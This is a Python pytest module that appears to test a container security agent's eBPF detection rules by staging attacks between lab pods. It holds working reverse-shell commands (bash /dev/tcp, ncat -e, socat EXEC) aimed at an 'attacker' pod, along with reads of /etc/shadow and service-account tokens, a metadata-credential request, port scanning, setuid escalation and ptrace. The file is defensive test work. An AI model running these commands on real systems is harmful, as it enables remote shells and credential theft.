"""End to end, as root: attacks run inside test pods raise the right default rule with the pod's identity.

One real agent (`kubeguard agent --sensor ebpf`, default rules) runs for the module; every test makes
its own pods (network namespace + kubelet-style cgroup + pods-map entry), rewrites the pods file the
agent reads, runs an attack, and waits for the alert naming that pod's container.
"""

from __future__ import annotations

import functools
import os
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from agentlab import AgentProcess, describe
from podlab import Pod, PodLab
from roothelpers import require

pytestmark = pytest.mark.root

PYTHON = os.path.realpath(sys.executable)
STRATUM_REPLY = b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}\n'

# attack -> the default rule expected to fire (names from the rules lane's defaults)
RULES = {
    "tty_shell": "Terminal shell in container",
    "bash_reverse_shell": "Redirect STDOUT/STDIN to Network Connection in Container",
    "ncat_reverse_shell": "Netcat Remote Code Execution in Container",
    "socat_reverse_shell": "Redirect STDOUT/STDIN to Network Connection in Container",
    "shadow": "Read sensitive file untrusted",
    "sa_token": "Read service account token",
    "miner": "Detect crypto miners",
    "port_scan": "Port scan from container",
    "setuid": "Setuid to root in container",
    "metadata": "Contact cloud metadata service from container",
    "ptrace": "PTRACE attached to process",
    "dev_shm": "Execution from /dev/shm",
}


class Lab:
    """The module's agent plus helpers to make pods it knows about."""

    def __init__(self, pods: PodLab, agent: AgentProcess, pods_file: Path, work: Path) -> None:
        self.pods, self.agent, self.pods_file, self.work = pods, agent, pods_file, work

    def pod(self, name: str, **kwargs: Any) -> Pod:
        pod = self.pods.pod(f"{name}-{secrets.token_hex(2)}", **kwargs)
        self.pods.write_pods(self.pods_file)
        return pod

    def expect(self, attack: str, pod: Pod, timeout: float = 15.0) -> dict[str, Any]:
        """The alert of the attack's rule for `pod`, with the pod's identity; fails with what came instead.

        A rule missing from the default rule set (or renamed) fails before the attack runs (`attack`
        marker); a rule that exists but does not fire fails here.
        """
        rule = RULES[attack]
        alert = self.agent.wait_alert(rule, pod.container_id, timeout)
        got = self.agent.alerts_for(pod.container_id)
        assert alert is not None, (
            f"{attack}: no '{rule}' alert for pod {pod.namespace}/{pod.name}; alerts for it: {describe(got)}; "
            f"{len(self.agent.events(pod.container_id))} events from the pod (see {self.agent.events_path})")
        fields = alert["output_fields"]
        assert fields["k8s.ns.name"] == pod.namespace
        assert fields["k8s.pod.name"] == pod.name
        assert fields["container.id"] == pod.container_id
        assert fields["k8s.pod.uid"] == pod.uid
        return alert


@functools.cache
def default_rule_names() -> frozenset[str]:
    """Names of the enabled rules in kubeguard's default rule set, plus the agent's stateful port-scan rule."""
    from kubeguard.agent.portscan import PORT_SCAN_RULE
    from kubeguard.rules import RuleEngine

    return frozenset({rule.name for rule in RuleEngine.load(None, include_defaults=True).rules} | {PORT_SCAN_RULE})


@pytest.fixture(autouse=True)
def _rule_written(request: pytest.FixtureRequest) -> None:
    """An attack whose default rule is missing or renamed is a failure naming it (checked before the attack runs)."""
    marker = request.node.get_closest_marker("attack")
    if marker is not None and RULES[marker.args[0]] not in default_rule_names():
        pytest.fail(f"default rule '{RULES[marker.args[0]]}' ({marker.args[0]}) is not in kubeguard's default rules")


@pytest.fixture(scope="module")
def lab(module_podlab: PodLab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    require(shutil.which("bpftrace") is not None, "bpftrace (the ebpf sensor)")
    work = tmp_path_factory.mktemp("agent")
    pods_file = module_podlab.write_pods(work / "pods.json")
    try:
        agent = AgentProcess.start(work, pods_file)
    except RuntimeError as exc:
        require(False, f"a running agent with the ebpf sensor and default rules ({exc})")
        raise
    try:
        yield Lab(module_podlab, agent, pods_file, work)
    finally:
        summary = agent.stop()
        assert summary.get("queue_drops", 0) == 0, f"agent dropped events: {summary}"


def listener(pod: Pod, port: int, reply: bytes = b"exit\n") -> subprocess.Popen[str]:
    """A TCP listener in `pod`: accepts one connection, sends `reply`, prints what it received."""
    code = (
        "import socket,sys\n"
        f"s=socket.create_server(({pod.ip!r},{port}))\n"
        "print('ready',flush=True)\n"
        "s.settimeout(20)\n"
        "c,_=s.accept()\n"
        "c.settimeout(5)\n"
        f"c.sendall({reply!r})\n"
        "data=b''\n"
        "try:\n"
        "    while len(data)<4096:\n"
        "        chunk=c.recv(4096)\n"
        "        if not chunk: break\n"
        "        data+=chunk\n"
        "except OSError: pass\n"
        "print(data.decode(errors='replace'),flush=True)\n"
    )
    proc = pod.popen([PYTHON, "-c", code], stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
    return proc


@pytest.mark.attack("tty_shell")
def test_shell_with_a_tty(lab: Lab) -> None:
    pod = lab.pod("tty", namespace="shop")
    out = pod.run(["/usr/bin/script", "-qc", "/bin/sh -c 'id -u'", "/dev/null"])
    assert out.returncode == 0, out.stderr
    lab.expect("tty_shell", pod)


@pytest.mark.attack("bash_reverse_shell")
def test_bash_dev_tcp_reverse_shell(lab: Lab) -> None:
    victim, attacker = lab.pod("web", namespace="shop"), lab.pod("c2", namespace="evil")
    server = listener(attacker, 4444)
    victim.run(["/bin/bash", "-c", f"/bin/bash -i >& /dev/tcp/{attacker.ip}/4444 0>&1"], timeout=30)
    server.communicate(timeout=30)
    lab.expect("bash_reverse_shell", victim)


@pytest.mark.attack("ncat_reverse_shell")
def test_ncat_reverse_shell(lab: Lab) -> None:
    victim, attacker = lab.pod("api", namespace="shop"), lab.pod("c2", namespace="evil")
    server = listener(attacker, 4445, b"id -u; exit\n")
    victim.run(["/usr/bin/ncat", "-e", "/bin/sh", attacker.ip, "4445"], timeout=30)
    out, _ = server.communicate(timeout=30)
    assert out.strip() == "0"  # the shell really ran the attacker's command
    lab.expect("ncat_reverse_shell", victim)


@pytest.mark.attack("socat_reverse_shell")
def test_socat_reverse_shell(lab: Lab) -> None:
    victim, attacker = lab.pod("api", namespace="shop"), lab.pod("c2", namespace="evil")
    server = listener(attacker, 4446, b"id -u; exit\n")
    victim.run(["/usr/bin/socat", f"TCP:{attacker.ip}:4446", "EXEC:/bin/sh,nofork"], timeout=30)
    out, _ = server.communicate(timeout=30)
    assert out.strip() == "0"
    lab.expect("socat_reverse_shell", victim)


@pytest.mark.attack("shadow")
def test_read_etc_shadow(lab: Lab) -> None:
    pod = lab.pod("web", namespace="shop")
    assert pod.run(["/usr/bin/cat", "/etc/shadow"]).returncode == 0
    lab.expect("shadow", pod)


@pytest.mark.attack("sa_token")
def test_read_service_account_token(lab: Lab) -> None:
    pod = lab.pod("web", namespace="shop")
    # a private mount namespace with a token where kubelet puts it; nothing changes on the host
    script = ("mount -t tmpfs kg-secrets /run && mkdir -p /run/secrets/kubernetes.io/serviceaccount && "
              "echo eyJhbGciOi.test.token > /run/secrets/kubernetes.io/serviceaccount/token && "
              "/usr/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token")
    out = pod.run(["/usr/bin/unshare", "-m", "--propagation", "private", "/bin/sh", "-c", script])
    assert out.returncode == 0 and "test.token" in out.stdout, out.stderr
    lab.expect("sa_token", pod)


@pytest.mark.attack("miner")
def test_xmrig_to_a_stratum_server_on_a_non_standard_port(lab: Lab, tmp_path: Path) -> None:
    miner, pool = lab.pod("worker", namespace="batch"), lab.pod("pool", namespace="cdn")
    server = listener(pool, 8443, STRATUM_REPLY)
    xmrig = tmp_path / "xmrig"
    shutil.copy("/usr/bin/ncat", xmrig)
    subscribe = '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}\n'
    miner.run([str(xmrig), "--send-only", pool.ip, "8443"], input=subscribe, timeout=30)
    out, _ = server.communicate(timeout=30)
    assert "mining.subscribe" in out
    lab.expect("miner", miner)


@pytest.mark.attack("port_scan")
def test_port_scan_against_another_pod(lab: Lab) -> None:
    scanner, target = lab.pod("scanner", namespace="shop"), lab.pod("db", namespace="data")
    code = (
        "import socket\n"
        "for port in range(1, 201):\n"
        "    s = socket.socket(); s.settimeout(0.2)\n"
        f"    s.connect_ex(({target.ip!r}, port)); s.close()\n"
    )
    assert scanner.run([PYTHON, "-c", code], timeout=60).returncode == 0
    lab.expect("port_scan", scanner)


@pytest.mark.attack("setuid")
def test_setuid_escalation_through_a_setuid_binary(lab: Lab, tmp_path: Path) -> None:
    pod = lab.pod("web", namespace="shop")
    suid = tmp_path / "suid-setpriv"
    shutil.copy("/usr/bin/setpriv", suid)
    os.chmod(suid, 0o4755)
    os.chmod(tmp_path, 0o755)
    # drop to nobody, then the setuid-root copy raises its real uid back to 0
    out = pod.run(["/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                   str(suid), "--reuid=0", "--regid=0", "--clear-groups", "/usr/bin/id", "-u"])
    assert out.returncode == 0 and out.stdout.strip() == "0", out.stderr
    assert os.stat(suid).st_mode & stat.S_ISUID
    lab.expect("setuid", pod)


@pytest.mark.attack("metadata")
def test_connect_to_the_cloud_metadata_address(lab: Lab) -> None:
    pod = lab.pod("web", namespace="shop")
    pod.add_address("169.254.169.254")  # only inside this pod's namespace
    code = ("import socket\n"
            "srv = socket.create_server(('169.254.169.254', 80))\n"
            "c = socket.create_connection(('169.254.169.254', 80), timeout=5)\n"
            "c.sendall(b'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n'); c.close()\n")
    assert pod.run([PYTHON, "-c", code]).returncode == 0
    lab.expect("metadata", pod)


@pytest.mark.attack("ptrace")
def test_ptrace_attach(lab: Lab) -> None:
    pod = lab.pod("web", namespace="shop")
    code = ("import ctypes, subprocess, time\n"
            "victim = subprocess.Popen(['/usr/bin/sleep', '30'], stdout=-3, stderr=-3)\n"  # DEVNULL
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "time.sleep(0.2)\n"
            "rc = libc.ptrace(16, victim.pid, None, None)\n"  # PTRACE_ATTACH
            "err = ctypes.get_errno()\n"
            "victim.kill(); victim.wait()\n"
            "print(rc, err, flush=True)\n")
    out = pod.run([PYTHON, "-c", code])
    assert out.stdout.split()[0] == "0", out.stdout + out.stderr
    lab.expect("ptrace", pod)


@pytest.mark.attack("dev_shm")
def test_exec_from_dev_shm(lab: Lab) -> None:
    pod = lab.pod("web", namespace="shop")
    binary = Path(f"/dev/shm/kg-test-{secrets.token_hex(4)}")
    shutil.copy("/usr/bin/true", binary)
    try:
        assert pod.run([str(binary)]).returncode == 0
        lab.expect("dev_shm", pod)
    finally:
        binary.unlink(missing_ok=True)


BENIGN_SERVER = """
import http.server, socketserver, subprocess, sys
class Quiet(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True  # headers and body are two writes
    count = 0
    def do_GET(self):
        Quiet.count += 1
        if Quiet.count % 500 == 0:
            subprocess.run(["/usr/bin/date"], stdout=subprocess.DEVNULL)  # an app process, no shell
        body = b"ok\\n" if self.path == "/healthz" else b"hello\\n" * 10
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
    allow_reuse_address = True
    daemon_threads = True
with Server((sys.argv[1], 8080), Quiet) as srv:
    print("ready", flush=True)
    srv.serve_forever()
"""

BENIGN_CLIENT = """
import http.client, sys
ok = 0
for i in range(int(sys.argv[2])):
    if i % 100 == 0:
        conn = http.client.HTTPConnection(sys.argv[1], 8080, timeout=10)
    conn.request("GET", f"/items/{i}")
    response = conn.getresponse(); response.read()
    ok += response.status == 200
print(ok)
"""


def test_benign_web_traffic_and_probes_raise_nothing(lab: Lab) -> None:
    web, client = lab.pod("web", namespace="shop"), lab.pod("frontend", namespace="shop")
    server = web.popen([PYTHON, "-c", BENIGN_SERVER, web.ip], stdout=subprocess.PIPE, text=True)
    assert server.stdout is not None and server.stdout.readline().strip() == "ready"
    try:
        for _ in range(5):  # health probes from the node, as the kubelet sends them
            with socket.create_connection((web.ip, 8080), timeout=5) as probe:
                probe.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                assert b"200 OK" in probe.recv(1024)
        out = client.run([PYTHON, "-c", BENIGN_CLIENT, web.ip, "3000"], timeout=120)
        assert out.stdout.strip() == "3000", out.stderr
    finally:
        server.terminate()
        server.wait(timeout=10)
    time.sleep(1.5)  # let the agent catch up with the last events
    assert len(lab.agent.events(web.container_id)) > 0, "the agent saw nothing from the web pod"
    for pod in (web, client):
        alerts = lab.agent.alerts_for(pod.container_id)
        assert not alerts, f"benign pod {pod.name} raised: {describe(alerts)}"
